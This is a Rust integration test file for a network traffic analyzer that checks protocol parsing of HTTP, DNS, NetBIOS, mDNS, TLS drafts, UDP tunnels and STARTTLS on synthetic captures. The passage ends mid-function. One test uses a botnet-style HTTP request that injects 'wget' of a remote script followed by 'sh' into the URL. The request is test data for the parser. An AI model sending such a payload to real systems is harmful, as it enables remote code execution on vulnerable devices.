//! Protocol fidelity (issue 13): each parser bug found on third-party
//! captures, checked on a capture made here (etherparse frames, every
//! length and checksum valid) and run through the `sift` binary.

mod common;

use common::pcap::{file, Frame, ACK, PSH_ACK, SYN};
use common::*;

const CLIENT: [u8; 4] = [10, 13, 0, 1];
const SERVER: [u8; 4] = [10, 13, 0, 2];
const SYN_ACK: u8 = SYN | ACK;

fn tcp(from_client: bool, port: u16, seq: u32, flags: u8, payload: &[u8]) -> Frame {
    let (c, s) = ((CLIENT, 40_000), (SERVER, port));
    let (src, dst) = if from_client { (c, s) } else { (s, c) };
    Frame {
        src,
        dst,
        tcp: Some((seq, flags)),
        payload: payload.to_vec(),
    }
}

fn udp(src: ([u8; 4], u16), dst: ([u8; 4], u16), payload: &[u8]) -> Frame {
    Frame {
        src,
        dst,
        tcp: None,
        payload: payload.to_vec(),
    }
}

/// The EVE records sift writes for `frames`.
fn analyze(name: &str, frames: &[Frame], extra: &[&str]) -> Vec<serde_json::Value> {
    let t = TempFile::new(name, &file(frames));
    let mut args = vec!["analyze", "-q", "--format", "json"];
    args.extend_from_slice(extra);
    args.push(t.path());
    let out = sift(&args);
    assert!(out.status.success(), "{}", text(&out.stderr));
    eve(&out.stdout)
}

/// The one flow record of a capture.
fn only_flow(records: &[serde_json::Value]) -> &serde_json::Value {
    let flows: Vec<_> = records
        .iter()
        .filter(|r| r["event_type"] == "flow")
        .collect();
    assert_eq!(flows.len(), 1, "{records:#?}");
    flows[0]
}

/// A TCP conversation on `port`: handshake, then the client's and the
/// server's bytes, each in one segment.
fn conversation(port: u16, request: &[u8], reply: &[u8]) -> Vec<Frame> {
    let mut v = vec![
        tcp(true, port, 1000, SYN, &[]),
        tcp(false, port, 5000, SYN_ACK, &[]),
        tcp(true, port, 1001, ACK, &[]),
    ];
    if !request.is_empty() {
        v.push(tcp(true, port, 1001, PSH_ACK, request));
    }
    if !reply.is_empty() {
        v.push(tcp(false, port, 5001, PSH_ACK, reply));
    }
    v
}

/// A DNS message: header, one question, `answers` A records.
fn dns_message(id: u16, response: bool, name: &str, qtype: u16, answers: u16) -> Vec<u8> {
    let flags: u16 = if response { 0x8180 } else { 0x0100 };
    let mut m = Vec::new();
    for v in [id, flags, 1, answers, 0, 0] {
        m.extend_from_slice(&v.to_be_bytes());
    }
    for label in name.split('.') {
        m.push(label.len() as u8);
        m.extend_from_slice(label.as_bytes());
    }
    m.push(0);
    m.extend_from_slice(&qtype.to_be_bytes());
    m.extend_from_slice(&1u16.to_be_bytes());
    for i in 0..answers {
        m.extend_from_slice(&[0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 192, 0, 2]);
        m.push(i as u8 + 1);
    }
    m
}

#[test]
fn bug3_request_target_with_spaces() {
    let req = b"GET /shell?cd+/tmp;wget+ http://198.51.100.7/x.sh;sh+x.sh HTTP/1.1\r\nHost: 203.0.113.9:8080\r\nUser-Agent: botnet\r\n\r\n";
    let records = analyze("bug3.pcap", &conversation(8080, req, b""), &[]);
    let f = only_flow(&records);
    assert_eq!(f["app_proto"], "http", "{f:#}");
    assert_eq!(
        f["http"]["url"],
        "/shell?cd+/tmp;wget+ http://198.51.100.7/x.sh;sh+x.sh"
    );
    assert_eq!(f["http"]["protocol"], "HTTP/1.1");
    assert_eq!(f["http"]["hostname"], "203.0.113.9");
}

#[test]
fn bug4_request_head_cut_before_its_blank_line() {
    // The capture ends inside the User-Agent line.
    let req = b"POST /upload HTTP/1.1\r\nHost: Cut.Example.ORG\r\nContent-Length: 99\r\nUser-Agent: trunc";
    let records = analyze("bug4.pcap", &conversation(80, req, b""), &[]);
    let f = only_flow(&records);
    assert_eq!(f["app_proto"], "http", "{f:#}");
    assert_eq!(f["http"]["hostname"], "cut.example.org");
    assert_eq!(f["http"]["http_method"], "POST");
    assert!(
        f["http"]["http_user_agent"].is_null(),
        "a cut line is not read"
    );
    let why = f["sift"]["evidence"][0]["what"].as_str().unwrap();
    assert!(why.contains("cut before the blank line"), "{why}");
    // A request line alone decides nothing.
    let records = analyze(
        "bug4-line.pcap",
        &conversation(80, b"GET / HTTP/1.1\r\n", b""),
        &[],
    );
    assert_eq!(only_flow(&records)["app_proto"], "unknown");
}

#[test]
fn bug5_dns_over_tcp_seen_from_the_server_only() {
    let msg = dns_message(0x4242, true, "only.server.example", 1, 2);
    let mut framed = (msg.len() as u16).to_be_bytes().to_vec();
    framed.extend_from_slice(&msg);
    // The capture holds the server's packets only.
    let frames = vec![
        tcp(false, 53, 5000, SYN_ACK, &[]),
        tcp(false, 53, 5001, PSH_ACK, &framed),
    ];
    let records = analyze("bug5.pcap", &frames, &[]);
    let f = only_flow(&records);
    assert_eq!(f["app_proto"], "dns", "{f:#}");
    assert_eq!(f["dns"]["rrname"], "only.server.example");
    assert_eq!(f["dns"]["type"], "answer");
    assert_eq!(
        f["src_port"], 40_000,
        "the client is the one that did not send"
    );
    // A query from the server side is not a response: no verdict.
    let query = dns_message(0x4242, false, "only.server.example", 1, 0);
    let mut framed = (query.len() as u16).to_be_bytes().to_vec();
    framed.extend_from_slice(&query);
    let frames = vec![
        tcp(false, 53, 5000, SYN_ACK, &[]),
        tcp(false, 53, 5001, PSH_ACK, &framed),
    ];
    assert_eq!(
        only_flow(&analyze("bug5-q.pcap", &frames, &[]))["app_proto"],
        "unknown"
    );
}

/// A TLS handshake record holding one message.
fn handshake_record(msg_type: u8, body: &[u8]) -> Vec<u8> {
    let mut hs = vec![msg_type];
    hs.extend_from_slice(&(body.len() as u32).to_be_bytes()[1..]);
    hs.extend_from_slice(body);
    let mut rec = vec![0x16, 0x03, 0x01];
    rec.extend_from_slice(&(hs.len() as u16).to_be_bytes());
    rec.extend_from_slice(&hs);
    rec
}

/// A ClientHello offering TLS 1.3 draft `draft` only, for `sni`.
fn draft_client_hello(draft: u8, sni: &str) -> Vec<u8> {
    let mut b = vec![0x03, 0x03];
    b.extend_from_slice(&[0x11; 32]);
    b.push(0); // session id
    b.extend_from_slice(&[0x00, 0x02, 0x13, 0x01]); // TLS_AES_128_GCM_SHA256
    b.extend_from_slice(&[0x01, 0x00]); // null compression
    let mut exts = Vec::new();
    let mut name = vec![0u8];
    name.extend_from_slice(&(sni.len() as u16).to_be_bytes());
    name.extend_from_slice(sni.as_bytes());
    let mut list = (name.len() as u16).to_be_bytes().to_vec();
    list.extend_from_slice(&name);
    exts.extend_from_slice(&[0x00, 0x00]);
    exts.extend_from_slice(&(list.len() as u16).to_be_bytes());
    exts.extend_from_slice(&list);
    exts.extend_from_slice(&[0x00, 0x2b, 0x00, 0x03, 0x02, 0x7f, draft]);
    b.extend_from_slice(&(exts.len() as u16).to_be_bytes());
    b.extend_from_slice(&exts);
    handshake_record(1, &b)
}

/// A ServerHello of draft `draft` before 22: version, random, cipher,
/// extensions (a key share), no session id, no compression method.
fn early_draft_server_hello(draft: u8) -> Vec<u8> {
    let mut b = vec![0x7f, draft];
    b.extend_from_slice(&[0x22; 32]);
    b.extend_from_slice(&[0x13, 0x01]);
    let mut exts = vec![0x00, 0x28, 0x00, 0x24, 0x00, 0x1d, 0x00, 0x20]; // key_share (draft codepoint 40)
    exts.extend_from_slice(&[0x33; 32]);
    b.extend_from_slice(&(exts.len() as u16).to_be_bytes());
    b.extend_from_slice(&exts);
    handshake_record(2, &b)
}

#[test]
fn bug6_tls13_drafts_before_22() {
    for draft in [18u8, 21] {
        let frames = conversation(
            443,
            &draft_client_hello(draft, "draft.example"),
            &early_draft_server_hello(draft),
        );
        let records = analyze("bug6.pcap", &frames, &[]);
        let f = only_flow(&records);
        assert_eq!(f["app_proto"], "tls", "{f:#}");
        assert_eq!(f["tls"]["sni"], "draft.example");
        assert_eq!(
            f["tls"]["version"],
            format!("TLS 1.3 draft {draft}"),
            "{f:#}"
        );
    }
}

#[test]
fn bug7_dns_type_names_from_the_iana_table() {
    for (qtype, name) in [(10u16, "NULL"), (44, "SSHFP"), (99, "SPF"), (65, "HTTPS")] {
        let q = dns_message(7, false, "t.example", qtype, 0);
        let records = analyze("bug7.pcap", &[udp((CLIENT, 40_000), (SERVER, 53), &q)], &[]);
        assert_eq!(only_flow(&records)["dns"]["rrtype"], name);
    }
    // Unassigned: the number.
    let q = dns_message(7, false, "t.example", 54, 0);
    let records = analyze("bug7.pcap", &[udp((CLIENT, 40_000), (SERVER, 53), &q)], &[]);
    assert_eq!(only_flow(&records)["dns"]["rrtype"], "54");
}

/// A NetBIOS name, first-level encoded (RFC 1001 §14.1): padded with
/// spaces to 15 characters, the suffix byte, each half-byte plus `A`.
fn netbios_name(name: &str, suffix: u8) -> Vec<u8> {
    let mut raw = format!("{name:<15}").into_bytes();
    raw.push(suffix);
    let mut v = vec![32u8];
    for b in raw {
        v.push(b'A' + (b >> 4));
        v.push(b'A' + (b & 15));
    }
    v.push(0);
    v
}

#[test]
fn bug8_nbns_llmnr_mdns_are_named_with_their_question() {
    // NBNS: a broadcast name query for WORKGROUP<1d>, then a registration
    // on another port: the encoded name decides, not the port.
    let mut q = vec![0x82, 0x28, 0x01, 0x10, 0, 1, 0, 0, 0, 0, 0, 0];
    q.extend_from_slice(&netbios_name("WORKGROUP", 0x1d));
    q.extend_from_slice(&[0, 0x20, 0, 1]);
    let bcast = [10, 13, 0, 255];
    let records = analyze(
        "bug8-nbns.pcap",
        &[
            udp((CLIENT, 137), (bcast, 137), &q),
            udp((CLIENT, 41_137), (SERVER, 1137), &q),
        ],
        &[],
    );
    let flows: Vec<_> = records
        .iter()
        .filter(|r| r["event_type"] == "flow")
        .collect();
    assert_eq!(flows.len(), 2);
    for f in flows {
        assert_eq!(f["app_proto"], "nbns", "{f:#}");
        assert_eq!(f["dns"]["rrname"], "workgroup<1d>");
        assert_eq!(f["dns"]["rrtype"], "NB");
    }
    // mDNS: a query from 5353 to the group; an announcement (no question).
    let group = [224, 0, 0, 251];
    // Header: id 0, QR and AA, no question, one answer.
    let mut announce = vec![0, 0, 0x84, 0, 0, 0, 0, 1, 0, 0, 0, 0];
    announce.extend_from_slice(&wire_name("printer.local"));
    // A, IN with the cache-flush bit, TTL 120, 192.0.2.9.
    announce.extend_from_slice(&[0, 1, 0x80, 1, 0, 0, 0, 120, 0, 4, 192, 0, 2, 9]);
    let records = analyze(
        "bug8-mdns.pcap",
        &[
            udp(
                (CLIENT, 5353),
                (group, 5353),
                &dns_message(0, false, "_ipp._tcp.local", 12, 0),
            ),
            udp((SERVER, 5353), (group, 5353), &announce),
        ],
        &[],
    );
    let flows: Vec<_> = records
        .iter()
        .filter(|r| r["event_type"] == "flow")
        .collect();
    assert_eq!(flows.len(), 2);
    assert_eq!(flows[0]["app_proto"], "mdns", "{:#}", flows[0]);
    assert_eq!(flows[0]["dns"]["rrname"], "_ipp._tcp.local");
    assert_eq!(flows[0]["dns"]["rrtype"], "PTR");
    assert_eq!(flows[1]["app_proto"], "mdns", "{:#}", flows[1]);
    assert_eq!(flows[1]["dns"]["rrname"], "printer.local");
    assert_eq!(flows[1]["dns"]["type"], "answer");
    // LLMNR: a query to the group on 5355.
    let records = analyze(
        "bug8-llmnr.pcap",
        &[udp(
            (CLIENT, 50_000),
            ([224, 0, 0, 252], 5355),
            &dns_message(0x77, false, "fileserver", 28, 0),
        )],
        &[],
    );
    let f = only_flow(&records);
    assert_eq!(f["app_proto"], "llmnr", "{f:#}");
    assert_eq!(f["dns"]["rrname"], "fileserver");
    // Random bytes on the three ports get no verdict.
    let mut x: u32 = 7;
    let mut frames = Vec::new();
    for port in [137u16, 5353, 5355] {
        for i in 0..20u16 {
            let junk: Vec<u8> = (0..60 + i)
                .map(|_| {
                    x ^= x << 13;
                    x ^= x >> 17;
                    x ^= x << 5;
                    x as u8
                })
                .collect();
            frames.push(udp((CLIENT, 30_000 + i), (SERVER, port), &junk));
        }
    }
    let records = analyze("bug8-random.pcap", &frames, &[]);
    for f in records.iter().filter(|r| r["event_type"] == "flow") {
        assert_eq!(f["app_proto"], "unknown", "{f:#}");
    }
}

/// A DNS name in wire form, uncompressed.
fn wire_name(name: &str) -> Vec<u8> {
    let mut v = Vec::new();
    for label in name.split('.') {
        v.push(label.len() as u8);
        v.extend_from_slice(label.as_bytes());
    }
    v.push(0);
    v
}

// ---- Tunnels carried in UDP -------------------------------------------

/// An inner IPv4/TCP packet 192.0.2.10:51000 -> 198.51.100.20:80 with
/// `payload` (etherparse: lengths and checksums valid).
fn inner_tcp(seq: u32, flags_syn: bool, payload: &[u8]) -> Vec<u8> {
    use etherparse::PacketBuilder;
    let b = PacketBuilder::ipv4([192, 0, 2, 10], [198, 51, 100, 20], 64);
    let b = if flags_syn {
        b.tcp(51_000, 80, seq, 65_535).syn()
    } else {
        b.tcp(51_000, 80, seq, 65_535).psh().ack(1)
    };
    let mut v = Vec::new();
    b.write(&mut v, payload).unwrap();
    v
}

fn ethernet_of(ip: &[u8]) -> Vec<u8> {
    let mut v = vec![2, 0, 0, 0, 0, 1, 2, 0, 0, 0, 0, 2, 0x08, 0x00];
    v.extend_from_slice(ip);
    v
}

/// The tunnel header (and frame) around an inner IPv4 packet, and the
/// outer UDP ports.
fn encapsulate(kind: &str, ip: &[u8]) -> (u16, u16, Vec<u8>) {
    let mut v = Vec::new();
    match kind {
        "vxlan" => {
            v.extend_from_slice(&[0x08, 0, 0, 0, 0, 0x10, 0x01, 0]);
            v.extend_from_slice(&ethernet_of(ip));
            (49_152, 4789, v)
        }
        "geneve" => {
            // One 8-byte option, protocol IPv4.
            v.extend_from_slice(&[0x02, 0, 0x08, 0x00, 0, 0, 0x2a, 0]);
            v.extend_from_slice(&[0x01, 0x02, 0x03, 0x01, 0, 0, 0, 7]);
            v.extend_from_slice(ip);
            (49_153, 6081, v)
        }
        "gtpu" => {
            // G-PDU with a PDU session container extension header.
            let len = (8 + ip.len()) as u16;
            v.extend_from_slice(&[0x34, 0xff]);
            v.extend_from_slice(&len.to_be_bytes());
            v.extend_from_slice(&[0, 0, 0x12, 0x34, 0, 0, 0, 0x85, 1, 0x10, 5, 0]);
            v.extend_from_slice(ip);
            (2152, 2152, v)
        }
        "capwap" => {
            // HLEN 2, WBID 1, native 802.11: a to-DS QoS data frame.
            v.extend_from_slice(&[0x00, 0x10, 0x03, 0x00, 0, 0, 0, 0]);
            v.extend_from_slice(&[0x88, 0x01, 0, 0]);
            v.extend_from_slice(&[0x0a; 18]);
            v.extend_from_slice(&[0x10, 0x00, 0x00, 0x00]);
            v.extend_from_slice(&[0xaa, 0xaa, 0x03, 0, 0, 0, 0x08, 0x00]);
            v.extend_from_slice(ip);
            (40_000, 5247, v)
        }
        "tzsp" => {
            // Version 1, received, Ethernet; an RSSI tag, then the end tag.
            v.extend_from_slice(&[1, 0, 0, 1, 10, 1, 0xc4, 1]);
            v.extend_from_slice(&ethernet_of(ip));
            (40_001, 37008, v)
        }
        _ => unreachable!(),
    }
}

#[test]
fn udp_tunnels_open_to_the_inner_flow() {
    let req = b"GET /inner HTTP/1.1\r\nHost: inner.example\r\n\r\n";
    let outer = ([10, 13, 9, 1], [10, 13, 9, 2]);
    for kind in ["vxlan", "geneve", "gtpu", "capwap", "tzsp"] {
        let frames: Vec<Frame> = [inner_tcp(1000, true, &[]), inner_tcp(1001, false, req)]
            .iter()
            .map(|ip| {
                let (sport, dport, payload) = encapsulate(kind, ip);
                udp((outer.0, sport), (outer.1, dport), &payload)
            })
            .collect();
        let records = analyze("tunnel.pcap", &frames, &[]);
        let f = only_flow(&records);
        assert_eq!(f["src_ip"], "192.0.2.10", "{kind}: {f:#}");
        assert_eq!(
            (f["src_port"].as_u64(), f["dest_port"].as_u64()),
            (Some(51_000), Some(80))
        );
        assert_eq!(f["app_proto"], "http", "{kind}");
        assert_eq!(f["http"]["hostname"], "inner.example");
        assert_eq!(f["sift"]["tunnels"], 1, "{kind}");
        assert_eq!(f["sift"]["tunnel_types"], serde_json::json!([kind]));
    }
    // Teredo: IPv6 in UDP 3544, behind an origin indication.
    let mut v6 = Vec::new();
    etherparse::PacketBuilder::ipv6(
        [0x20, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1],
        [0x20, 2, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2],
        64,
    )
    .udp(40_000, 53)
    .write(&mut v6, &dns_message(9, false, "teredo.example", 28, 0))
    .unwrap();
    let mut payload = vec![0, 0, 0xf0, 0x0f, 0x3f, 0x57, 0xfe, 0xfd];
    payload.extend_from_slice(&v6);
    let records = analyze(
        "teredo.pcap",
        &[udp(
            ([10, 13, 9, 1], 51_000),
            ([10, 13, 9, 2], 3544),
            &payload,
        )],
        &[],
    );
    let f = only_flow(&records);
    assert_eq!(
        (f["src_ip"].as_str(), f["app_proto"].as_str()),
        (Some("2001::1"), Some("dns"))
    );
    assert_eq!(f["dns"]["rrname"], "teredo.example");
    assert_eq!(f["sift"]["tunnel_types"], serde_json::json!(["teredo"]));
    // Noise on the tunnel ports stays the outer flow.
    let junk: Vec<u8> = (0..120u8).map(|i| i.wrapping_mul(37) ^ 0x5a).collect();
    for port in [4789u16, 6081, 2152, 3544, 5247, 37008] {
        let records = analyze(
            "noise.pcap",
            &[udp(([10, 13, 9, 1], 40_000), ([10, 13, 9, 2], port), &junk)],
            &[],
        );
        let f = only_flow(&records);
        assert_eq!(f["dest_port"], port);
        assert!(f["sift"]["tunnels"].is_null(), "{f:#}");
    }
}

/// The inner flows nDPI reports inside VXLAN, GTP-U and CAPWAP in its own
/// results (`[proto: VXLAN:...]`; expected.csv leaves them out), and
/// whether sift reports the same tuples.
#[test]
fn tunnel_inner_flows_agree_with_ndpi() {
    let corpus = ndpi_corpus();
    let mut want: Vec<(String, String)> = Vec::new(); // (capture, tuple)
    let mut captures = std::collections::BTreeSet::new();
    for entry in std::fs::read_dir(corpus.join("results")).unwrap() {
        let path = entry.unwrap().path();
        let capture = path
            .file_name()
            .unwrap()
            .to_str()
            .unwrap()
            .trim_end_matches(".out")
            .to_string();
        for line in std::fs::read_to_string(&path).unwrap_or_default().lines() {
            let tunnel = ["[proto: VXLAN:", "[proto: GTP:", "[proto: CAPWAP:"];
            if !tunnel.iter().any(|t| line.contains(t)) {
                continue;
            }
            let f: Vec<&str> = line.split_whitespace().collect();
            let (transport, a, b) = (f[1].to_lowercase(), f[2], f[4]);
            let split = |e: &str| -> (String, u16) {
                let (ip, port) = e.rsplit_once(':').unwrap();
                (
                    ip.trim_matches(|c| c == '[' || c == ']').to_string(),
                    port.parse().unwrap(),
                )
            };
            let (mut x, mut y) = (split(a), split(b));
            if x > y {
                std::mem::swap(&mut x, &mut y);
            }
            want.push((capture.clone(), format!("{transport} {x:?} {y:?}")));
            captures.insert(capture.clone());
        }
    }
    assert!(want.len() >= 26, "{want:?}");
    let mut args = vec![
        "analyze".to_string(),
        "-q".into(),
        "--format".into(),
        "json".into(),
    ];
    args.extend(
        captures
            .iter()
            .map(|c| corpus.join("pcap").join(c).display().to_string()),
    );
    let out = sift(&args);
    let ours: std::collections::HashSet<(String, String)> = eve(&out.stdout)
        .iter()
        .filter(|r| r["event_type"] == "flow" && r["sift"]["tunnels"].as_u64() > Some(0))
        .map(|r| {
            let capture = r["pcap_filename"]
                .as_str()
                .unwrap()
                .rsplit('/')
                .next()
                .unwrap()
                .to_string();
            let transport = match r["proto"].as_str().unwrap() {
                "IPv6-ICMP" => "icmpv6".to_string(),
                p => p.to_lowercase(),
            };
            let port = |k: &str| r[k].as_u64().unwrap_or(0) as u16;
            let mut x = (r["src_ip"].as_str().unwrap().to_string(), port("src_port"));
            let mut y = (
                r["dest_ip"].as_str().unwrap().to_string(),
                port("dest_port"),
            );
            if x > y {
                std::mem::swap(&mut x, &mut y);
            }
            (capture, format!("{transport} {x:?} {y:?}"))
        })
        .collect();
    let missing: Vec<_> = want.iter().filter(|w| !ours.contains(w)).collect();
    eprintln!(
        "inner flows of VXLAN/GTP/CAPWAP that nDPI reports and sift reports inside a tunnel: {}/{}",
        want.len() - missing.len(),
        want.len()
    );
    assert!(missing.is_empty(), "{missing:#?}");
}

// ---- STARTTLS -----------------------------------------------------------

/// Segments of a plaintext dialogue: (sent by the client, bytes).
type Dialogue = Vec<(bool, &'static [u8])>;

/// A plaintext dialogue on `port` (alternating as given), then the
/// client's ClientHello for `sni`, each in its own segment.
fn upgrade_conversation(port: u16, dialogue: &[(bool, &[u8])], sni: &str) -> Vec<Frame> {
    let mut frames = vec![
        tcp(true, port, 1000, SYN, &[]),
        tcp(false, port, 5000, SYN_ACK, &[]),
        tcp(true, port, 1001, ACK, &[]),
    ];
    let (mut cseq, mut sseq) = (1001u32, 5001u32);
    for (from_client, bytes) in dialogue {
        if *from_client {
            frames.push(tcp(true, port, cseq, PSH_ACK, bytes));
            cseq += bytes.len() as u32;
        } else {
            frames.push(tcp(false, port, sseq, PSH_ACK, bytes));
            sseq += bytes.len() as u32;
        }
    }
    frames.push(tcp(
        true,
        port,
        cseq,
        PSH_ACK,
        &draft_client_hello(0x17, sni),
    ));
    frames
}

#[test]
fn starttls_upgrades_are_read_as_tls() {
    let cases: [(&str, u16, Dialogue); 3] = [
        (
            "SMTP STARTTLS",
            25,
            vec![
                (false, b"220 mail.example ESMTP\r\n"),
                (true, b"EHLO client.example\r\n"),
                (false, b"250-mail.example\r\n250 STARTTLS\r\n"),
                (true, b"STARTTLS\r\n"),
                (false, b"220 2.0.0 Ready to start TLS\r\n"),
            ],
        ),
        (
            "IMAP STARTTLS",
            143,
            vec![
                (false, b"* OK IMAP4rev1 ready\r\n"),
                (true, b"a1 STARTTLS\r\n"),
                (false, b"a1 OK Begin TLS negotiation now\r\n"),
            ],
        ),
        (
            "PostgreSQL SSLRequest",
            5432,
            vec![(true, &[0, 0, 0, 8, 0x04, 0xd2, 0x16, 0x2f]), (false, b"S")],
        ),
    ];
    for (what, port, dialogue) in cases {
        let records = analyze(
            "starttls.pcap",
            &upgrade_conversation(port, &dialogue, "mail.example"),
            &[],
        );
        let f = only_flow(&records);
        assert_eq!(f["app_proto"], "tls", "{what}: {f:#}");
        assert_eq!(f["tls"]["sni"], "mail.example", "{what}");
        let why = f["sift"]["evidence"][0]["what"].as_str().unwrap();
        assert!(why.starts_with(what), "{why}");
    }
    // The server says no: the ClientHello that follows anyway is not read
    // as an upgrade (and the plaintext names nothing).
    let refused = upgrade_conversation(
        25,
        &[
            (false, b"220 mail.example ESMTP\r\n"),
            (true, b"STARTTLS\r\n"),
            (false, b"454 4.7.0 TLS not available\r\n"),
        ],
        "mail.example",
    );
    let f = only_flow(&analyze("starttls-no.pcap", &refused, &[])).clone();
    assert!(
        f["sift"]["evidence"].as_array().is_none_or(|e| e
            .iter()
            .all(|e| !e["what"].as_str().unwrap().contains("STARTTLS"))),
        "{f:#}"
    );
    assert_ne!(f["app_proto"], "tls", "{f:#}");
}

// ---- Per-transaction events --------------------------------------------

/// A resolver asking `n` names on one tuple, the 50th a blocked one.
fn resolver_flow(n: u16) -> Vec<Frame> {
    (1..=n)
        .map(|i| {
            let name = if i == 50 {
                "blocked.example".to_string()
            } else {
                format!("host{i}.example")
            };
            udp(
                (CLIENT, 40_053),
                (SERVER, 53),
                &dns_message(i, false, &name, 1, 0),
            )
        })
        .collect()
}

#[test]
fn every_dns_message_is_an_event_and_rules_see_each() {
    let frames = resolver_flow(70);
    let records = analyze("resolver.pcap", &frames, &["--events", "flow,alert,dns"]);
    let dns: Vec<_> = records
        .iter()
        .filter(|r| r["event_type"] == "dns")
        .collect();
    let flow = only_flow(&records);
    // 64 kept, 6 counted.
    assert_eq!(dns.len(), 64);
    assert_eq!(flow["sift"]["dns_transactions_dropped"], 6);
    for (i, e) in dns.iter().enumerate() {
        assert_eq!(e["flow_id"], flow["flow_id"]);
        assert_eq!(e["dns"]["tx_id"], i);
        assert_eq!(e["dns"]["type"], "query");
        assert_eq!(e["dns"]["version"], 2);
    }
    assert_eq!(dns[49]["dns"]["rrname"], "blocked.example");
    // The flow record is as without events: its first question.
    assert_eq!(flow["dns"]["rrname"], "host1.example");
    let plain = analyze("resolver.pcap", &frames, &[]);
    assert_eq!(plain.len(), 1, "flow and alert only by default");
    let mut without = only_flow(&plain).clone();
    let mut with = flow.clone();
    with["sift"]
        .as_object_mut()
        .unwrap()
        .remove("dns_transactions_dropped");
    for r in [&mut with, &mut without] {
        r.as_object_mut().unwrap().remove("pcap_filename");
    }
    assert_eq!(with, without);

    // A rule on the 50th name alerts, with or without events.
    let rule = b"alert dns any any -> any any (msg:\"blocked name\"; dns.query; content:\"blocked.example\"; sid:7000001;)\n";
    for (records, alert) in one_alert_either_way("resolver.pcap", &frames, rule, "dns", 7_000_001) {
        assert_eq!(alert["flow_id"], only_flow(&records)["flow_id"]);
    }
}

/// Runs `rule` over `frames` with the per-transaction events of `events`
/// written and without them: each run must give exactly one alert, from
/// rule `sid`. Each run's records and its alert.
fn one_alert_either_way(
    name: &str,
    frames: &[Frame],
    rule: &[u8],
    events: &str,
    sid: u64,
) -> Vec<(Vec<serde_json::Value>, serde_json::Value)> {
    let rules = TempFile::new("one.rules", rule);
    let events = format!("flow,alert,{events}");
    [&["--events", events.as_str()][..], &[][..]]
        .into_iter()
        .map(|extra| {
            let mut args = vec!["--rules", rules.path()];
            args.extend_from_slice(extra);
            let records = analyze(name, frames, &args);
            let alerts: Vec<_> = records
                .iter()
                .filter(|r| r["event_type"] == "alert")
                .cloned()
                .collect();
            assert_eq!(alerts.len(), 1, "{extra:?}: {records:#?}");
            assert_eq!(alerts[0]["alert"]["signature_id"], sid);
            let alert = alerts[0].clone();
            (records, alert)
        })
        .collect()
}

#[test]
fn http_tls_quic_events_carry_the_flow_id() {
    let req = b"GET /a HTTP/1.1\r\nHost: ev.example\r\n\r\n";
    let mut frames = conversation(80, req, b"");
    frames.extend(
        upgrade_conversation(25, &[], "tls.example")
            .into_iter()
            .map(|mut f| {
                // Another tuple: the TLS flow.
                if f.src.1 == 40_000 {
                    f.src.1 = 40_443;
                } else {
                    f.dst.1 = 40_443;
                }
                f
            }),
    );
    let records = analyze("events.pcap", &frames, &["--events", "http,tls"]);
    let types: Vec<&str> = records
        .iter()
        .map(|r| r["event_type"].as_str().unwrap())
        .collect();
    assert_eq!(types, ["http", "tls"], "flow events left out");
    assert_eq!(records[0]["http"]["hostname"], "ev.example");
    assert_eq!(records[0]["tx_id"], 0);
    assert_eq!(records[1]["tls"]["sni"], "tls.example");
    assert_ne!(records[0]["flow_id"], records[1]["flow_id"]);
    let bad = sift(["analyze", "--events", "flow,smtp", "x.pcap"]);
    assert!(!bad.status.success());
    assert!(
        text(&bad.stderr).contains("unknown event type `smtp`"),
        "{}",
        text(&bad.stderr)
    );
}

#[test]
fn every_keep_alive_request_is_an_event_and_rules_see_each() {
    // Three requests on one connection, the second with a body, split
    // across segments anywhere; the server's replies between them.
    let stream: &[u8] = b"GET /1 HTTP/1.1\r\nHost: one.example\r\n\r\n\
POST /2 HTTP/1.1\r\nHost: two.example\r\nContent-Length: 17\r\n\r\nGET /x HTTP/1.1\r\n\
GET /3 HTTP/1.1\r\nHost: blocked.example\r\nUser-Agent: t\r\n\r\n";
    let mut frames = vec![
        tcp(true, 80, 1000, SYN, &[]),
        tcp(false, 80, 5000, SYN_ACK, &[]),
        tcp(true, 80, 1001, ACK, &[]),
    ];
    let mut sseq = 5001;
    for (i, chunk) in stream.chunks(29).enumerate() {
        frames.push(tcp(true, 80, 1001 + 29 * i as u32, PSH_ACK, chunk));
        if i % 2 == 1 {
            let reply = b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n";
            frames.push(tcp(false, 80, sseq, PSH_ACK, reply));
            sseq += reply.len() as u32;
        }
    }
    let records = analyze("keepalive.pcap", &frames, &["--events", "flow,http"]);
    let http: Vec<_> = records
        .iter()
        .filter(|r| r["event_type"] == "http")
        .collect();
    let hosts: Vec<&str> = http
        .iter()
        .map(|e| e["http"]["hostname"].as_str().unwrap())
        .collect();
    assert_eq!(hosts, ["one.example", "two.example", "blocked.example"]);
    let flow = only_flow(&records);
    for (i, e) in http.iter().enumerate() {
        assert_eq!(
            (e["tx_id"].as_u64(), &e["flow_id"]),
            (Some(i as u64), &flow["flow_id"])
        );
    }
    assert_eq!(
        flow["http"]["hostname"], "one.example",
        "the record keeps the first"
    );
    let rule = b"alert http any any -> any any (msg:\"blocked host\"; http.host; content:\"blocked.example\"; sid:7000002;)\n";
    one_alert_either_way("keepalive.pcap", &frames, rule, "http", 7_000_002);
}

#[test]
fn every_dns_over_tcp_query_is_an_event() {
    let mut stream = Vec::new();
    for (i, n) in ["one.example", "two.example", "blocked.example"]
        .iter()
        .enumerate()
    {
        let m = dns_message(i as u16 + 1, false, n, 1, 0);
        stream.extend_from_slice(&(m.len() as u16).to_be_bytes());
        stream.extend_from_slice(&m);
    }
    let frames = conversation(53, &stream, b"");
    let records = analyze("dnstcp.pcap", &frames, &["--events", "flow,dns"]);
    let names: Vec<&str> = records
        .iter()
        .filter(|r| r["event_type"] == "dns")
        .map(|r| r["dns"]["rrname"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["one.example", "two.example", "blocked.example"]);
    assert_eq!(only_flow(&records)["dns"]["rrname"], "one.example");
    let rules = TempFile::new(
        "dnstcp.rules",
        b"alert dns any any -> any any (msg:\"blocked name\"; dns.query; content:\"blocked.example\"; sid:7000003;)\n",
    );
    let records = analyze("dnstcp.pcap", &frames, &["--rules", rules.path()]);
    assert_eq!(
        records
            .iter()
            .filter(|r| r["event_type"] == "alert")
            .count(),
        1
    );
}

#[test]
fn a_long_flow_writes_each_transaction_once() {
    // Queries 1 s apart on one tuple, cut into records every 2 s, then
    // datagrams that are not DNS (records without a new message).
    let mut frames: Vec<Frame> = (1..=5u16)
